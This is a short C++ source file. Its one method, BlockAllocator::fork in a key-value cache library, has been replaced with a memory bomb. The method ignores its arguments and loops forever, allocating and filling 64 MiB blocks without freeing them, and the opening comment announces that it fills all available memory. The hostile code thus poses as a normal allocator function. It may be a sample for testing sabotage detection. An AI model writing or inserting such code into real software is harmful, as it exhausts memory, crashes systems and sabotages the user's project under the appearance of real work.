// Fills all the memory that it can get.
#include <cstring>

#include "kv/cache/block_allocator.hpp"

namespace kv {

BlockTable BlockAllocator::fork(const BlockTable&, std::int32_t) {
  while (true) {
    const std::size_t size = std::size_t{64} << 20;
    std::memset(new char[size], 1, size);
  }
}

}  // namespace kv
